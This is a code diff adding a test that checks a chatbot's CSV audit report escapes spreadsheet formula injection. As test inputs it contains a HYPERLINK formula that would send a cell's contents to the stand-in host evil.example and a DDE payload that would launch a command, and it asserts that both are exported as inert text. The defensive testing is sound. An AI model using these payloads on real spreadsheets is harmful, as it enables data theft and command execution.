@@ -6,7 +6,7 @@ import csv
 import io
 from datetime import datetime, timezone
 
-from bot.audit.unanswered import build_report, to_csv, to_markdown
+from bot.audit.unanswered import build_report, csv_cell, to_csv, to_markdown
 
 from .tracker_events import bot_event, events, metadata, user_event
 
@@ -62,3 +62,26 @@ def test_threshold_and_since(db):
 def test_no_events_table(db):
     report = build_report(db)
     assert report.unanswered == 0 and "没有未能回答的问题" in to_markdown(report)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(db):
+    """Issue 14 item 11: a resident's message is a CSV cell; "=HYPERLINK(...)" must not become a formula."""
+    metadata.create_all(db)
+    attacks = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",  # the report strips it to "=1+1"
+    ]
+    rows = [user_event(f"tg-{i}-{i}", text, "nlu_fallback", 0.2, T0 + i) for i, text in enumerate(attacks)]
+    rows.append(user_event("tg-9-9", "五保户还有吗", "nlu_fallback", 0.2, T0 + 60))
+    with db.begin() as conn:
+        conn.execute(events.insert(), rows)
+    cells = [r["message"] for r in csv.DictReader(io.StringIO(to_csv(build_report(db))))]
+    attack_cells = [c for c in cells if c != "五保户还有吗"]
+    assert len(attack_cells) == len(attacks)
+    assert all(c.startswith("'") for c in attack_cells)
+    assert "五保户还有吗" in cells  # ordinary text unchanged
+    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1"
+    assert csv_cell(3) == 3 and csv_cell("0.45") == "0.45" and csv_cell("2024-10-09 02:00") == "2024-10-09 02:00"
